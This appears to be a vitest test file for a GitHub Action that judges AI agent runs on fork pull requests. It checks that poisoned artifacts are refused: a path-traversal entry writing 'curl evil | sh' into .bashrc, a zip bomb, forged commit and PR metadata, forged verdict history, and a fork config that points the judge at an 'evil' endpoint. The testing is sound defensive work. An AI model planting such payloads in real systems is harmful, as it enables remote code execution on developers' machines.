import { afterAll, beforeAll, expect, test } from 'vitest';
import { BOT_TOKEN, READ_TOKEN, TOKEN } from '../stage/github.ts';
import { type ZipFile, zip } from '../stage/zip.ts';
import { calls, ended, openSalon, type Salon } from './salon.ts';

// A fork's pull request: its run has no secrets and leaves what the agent said; another run, with secrets and without the fork's code, judges that.
let salon: Salon;
const PR = {
  inputs: { id: 'viva', judge: 'none', runs: '3', comment: 'never', 'on-error': 'neutral' },
  fork: true,
  token: READ_TOKEN,
  env: { OPENAI_API_KEY: '', SHOP_KEY: '' },
};
const JUDGE = { inputs: { id: 'viva', runs: '3' } };

const suite = (criterion = 'Asks before it refunds') => `tests:
  - name: refund flow
    user_input: I want a refund
    criteria: ${criterion}
`;
/** An agent that needs no key: a fork's run has none. */
const config = () => salon.config().replace(/ {4}headers: .*\n/, '');
let says = 'May I ask for the order number?';

beforeAll(async () => {
  salon = await openSalon({
    agent: () => says,
    judge: ({ criteria, data }) =>
      criteria.map(() =>
        data.includes('refunded!') ? { pass: false, reason: 'It refunded at once.', evidence: [{ event: 2, quote: 'refunded!' }] } : true,
      ),
  });
  for (let n = 0; n < 4; n++)
    await salon.push(
      { 'viva.config.yml': config(), 'shop.viva.yml': suite(), 'prompt.md': 'v1\n', 'news.md': `${n}\n` },
      { inputs: { id: 'viva' } },
    );
}, 120_000);
afterAll(() => salon.close());

const statuses = () => salon.github.statuses.map((s) => [s.sha, s.state, s.context]);
const head = () => salon.github.pull.headSha;

test('the fork talks to its agent without a judge, and leaves what was said', async () => {
  says = 'Done, refunded!';
  const result = await salon.pull(1, { 'prompt.md': 'v2\n' }, PR);
  expect(ended(result)).toEqual([0, 'neutral', 'could_not_test']);
  expect(calls(result)).toEqual([3, 0]);
  expect(salon.comments()).toEqual([]);
  expect(salon.cache.artifacts().at(-1)?.name).toBe('viva-viva');
});

test('the second run judges it: no call to the agent, a comment, and a red status on the commit', async () => {
  const result = await salon.after(undefined, JUDGE);
  expect(ended(result)).toEqual([1, 'failure', 'regressed']);
  expect(calls(result)).toEqual([0, 3]);
  expect(statuses()).toEqual([[head(), 'failure', 'viva']]);
  expect(salon.github.statuses[0]).toMatchObject({
    description: '1 test regressed: refund flow',
    target_url: 'https://github.com/acme/salon/actions/runs/6',
  });
  const [comment, ...more] = salon.comments();
  expect(more).toEqual([]);
  expect(comment).toContain('fails 3 of 3 here, passes 6 of 6 on main, against history only.');
  expect(comment).toContain('It refunded at once. “refunded!”');
  expect(comment).toContain(`/blob/${head()}/shop.viva.yml#L`);
  expect(result.outputs['comment-url']).toMatch(/#issuecomment-/);
});

test('mended: green, in the same comment', async () => {
  says = 'May I ask for the order number?';
  await salon.pull(1, { 'prompt.md': 'v3\n' }, PR);
  const result = await salon.after(undefined, JUDGE);
  expect(ended(result)).toEqual([0, 'success', 'met']);
  expect(statuses().at(-1)).toEqual([head(), 'success', 'viva']);
  expect(salon.comments()).toHaveLength(1);
  expect(salon.comments()[0]).not.toContain('regressed');
});

test("config comes from the base commit, suites are data: a fork's judge and endpoint are not asked", async () => {
  const theirs = config().replace(salon.model.url, 'http://127.0.0.1:9/evil').replaceAll(salon.agent.url, 'http://127.0.0.1:9');
  await salon.pull(2, { 'viva.config.yml': theirs, 'shop.viva.yml': suite('Asks for the order number'), 'prompt.md': 'v4\n' }, PR);
  const asked = salon.model.requests.length;
  const result = await salon.after(undefined, JUDGE);
  expect(ended(result)).toEqual([0, 'success', 'met']);
  expect(salon.model.requests.length).toBeGreaterThan(asked);
  expect(salon.comments()[0]).not.toContain('evil');
});

/** The fork's own artifact, with changes. */
function poisoned(changes: {
  readonly about?: object;
  readonly memory?: object;
  readonly more?: readonly ZipFile[];
  readonly digest?: string;
}) {
  const run = salon.github.runs.findLast((r) => r.event === 'pull_request');
  const about = {
    schema_version: 1,
    viva: '0',
    id: 'viva',
    leg: 'viva',
    event: 'pull_request',
    pr: salon.github.pull.number,
    head_sha: head(),
    run: run?.id,
    attempt: 1,
  };
  const files: ZipFile[] = [
    { name: 'run/about.json', content: JSON.stringify({ ...about, ...changes.about }) },
    {
      name: 'memory/memory.json',
      content: JSON.stringify(changes.memory ?? { schema_version: 1, runs: [], history: [], results: {}, verdicts: {} }),
    },
    ...(changes.more ?? []),
  ];
  salon.cache.plant({ name: 'viva-viva', runId: run?.id ?? 0, bytes: zip(files), ...(changes.digest && { digest: changes.digest }) });
  return run;
}
const LIES: readonly (readonly [string, Parameters<typeof poisoned>[0], string])[] = [
  ['another commit', { about: { head_sha: 'c'.repeat(40) } }, 'it says that it is of commit ccccccc'],
  ['another run', { about: { run: 1 } }, 'it says that it is of run 1'],
  ['another leg', { about: { id: 'other' } }, 'it says that it is of another leg'],
  ['another shape', { about: { schema_version: 2 } }, 'it does not say of which run it is'],
  ['no pull request', { about: { pr: undefined } }, 'does not say of which pull request'],
  ['a way out', { more: [{ name: '../../../.bashrc', content: 'curl evil | sh' }] }, 'which Viva does not write'],
  ['a bomb', { more: [{ name: 'transcripts/a.jsonl', content: 'x', claims: 3_000_000_000 }] }, 'unpacked it is larger than 230 MB'],
  ['other bytes', { digest: `sha256:${'1'.repeat(64)}` }, 'digest mismatch'],
];

test('a poisoned artifact is refused and said: no status, no comment, no call', async () => {
  const [before, comments, asked] = [salon.github.statuses.length, salon.comments(), salon.model.requests.length];
  await salon.pull(3, { 'prompt.md': 'v5\n' }, PR);
  for (const [what, lie, why] of LIES) {
    const result = await salon.after(poisoned(lie), JUDGE);
    expect([what, ...ended(result)]).toEqual([what, 4, 'failure', 'could_not_test']);
    expect(result.annotations.map((a) => a.message).join('\n'), what).toContain(why);
    expect(result.raw).not.toContain('curl evil');
  }
  expect([salon.github.statuses.length, salon.comments(), salon.model.requests.length]).toEqual([before, comments, asked]);
}, 120_000);

test('a forged number: the pull request that it names stands elsewhere, and nothing is written on it', async () => {
  const before = salon.github.statuses.length;
  const run = poisoned({ about: { pr: 9 } });
  salon.github.pull.number = 9;
  salon.github.pull.headSha = 'd'.repeat(40);
  const result = await salon.after(run, JUDGE);
  expect(ended(result)).toEqual([0, 'neutral', 'nothing_to_run']);
  expect(result.annotations[0]?.message).toContain('pull request #9 does not stand at');
  // The same commit, in another repository's pull request.
  Object.assign(salon.github.pull, { headSha: run?.headSha, headRepo: 'acme/salon' });
  const other = await salon.after(run, JUDGE);
  expect(ended(other)).toEqual([4, 'failure', 'could_not_test']);
  expect(other.annotations[0]?.message).toContain('comes from elsewhere');
  expect(salon.github.statuses).toHaveLength(before);
});

test("forged verdicts and a forged history are not looked at: the judge is asked, and base's history is base's", async () => {
  says = 'Done, refunded!';
  await salon.pull(4, { 'prompt.md': 'v6\n' }, PR);
  const genuine = salon.cache.artifacts().at(-1);
  const bytes = salon.cache.bytesOf(genuine ?? { url: '' });
  const { memory, transcripts } = await contents(bytes);
  const failed = Array.from({ length: 20 }, (_, n) => ({
    ...memory.runs[0],
    id: `forged ${n}`,
    passed: false,
    judgement: 'f'.repeat(64),
    at: new Date().toISOString(),
    commit: salon.github.pull.baseSha,
  }));
  const passing = { findings: [], at: new Date().toISOString() };
  const results = Object.fromEntries(Array.from({ length: 3 }, (_, n) => [String(n).repeat(64), passing]));
  const run = poisoned({
    memory: { ...memory, history: failed, results },
    more: [{ name: 'transcripts/a-1.jsonl', content: transcripts }],
  });
  const result = await salon.after(run, JUDGE);
  expect(ended(result)).toEqual([1, 'failure', 'regressed']);
  expect(salon.comments()[0]).toContain('passes 6 of 6 on main');
});

test('what is not to be judged: a push, a closed pull request, a run that left nothing, a token that may not look', async () => {
  const push = salon.github.runs.find((r) => r.event === 'push');
  const ofPush = await salon.after(push, JUDGE);
  expect(ended(ofPush)).toEqual([0, 'neutral', 'nothing_to_run']);
  const run = salon.github.runs.findLast((r) => r.event === 'pull_request');
  const denied = await salon.after(run, { ...JUDGE, token: READ_TOKEN });
  expect(ended(denied)).toEqual([4, 'failure', 'could_not_test']);
  expect(denied.annotations[0]?.message).toContain('Resource not accessible by integration');
  const other = await salon.after(run, { inputs: { id: 'another-leg' } });
  expect(ended(other)).toEqual([4, 'failure', 'could_not_test']);
  expect(other.annotations[0]?.message).toContain('left no artifact of this leg');
  salon.github.pull.state = 'closed';
  expect(ended(await salon.after(run, JUDGE))).toEqual([0, 'neutral', 'nothing_to_run']);
  salon.github.pull.state = 'open';
});

test('without `statuses: write`: a warning with what is missing, and the comment all the same', async () => {
  const run = salon.github.runs.findLast((r) => r.event === 'pull_request');
  const result = await salon.after(run, { ...JUDGE, token: TOKEN });
  expect(ended(result)).toEqual([1, 'failure', 'regressed']);
  expect(result.annotations.map((a) => a.message)).toContainEqual(expect.stringContaining('the token needs statuses: write'));
  expect(BOT_TOKEN).not.toBe(TOKEN);
});

async function contents(
  bytes: Buffer,
): Promise<{ readonly memory: { runs: object[]; [key: string]: unknown }; readonly transcripts: string }> {
  const { execFileSync } = await import('node:child_process');
  const { mkdtempSync, readdirSync, readFileSync, writeFileSync } = await import('node:fs');
  const home = mkdtempSync('/tmp/contents-');
  writeFileSync(`${home}/a.zip`, bytes);
  execFileSync('python3', ['-m', 'zipfile', '-e', `${home}/a.zip`, `${home}/all`]);
  const [file] = readdirSync(`${home}/all/transcripts`);
  return {
    memory: JSON.parse(readFileSync(`${home}/all/memory/memory.json`, 'utf8')),
    transcripts: readFileSync(`${home}/all/transcripts/${file}`, 'utf8'),
  };
}
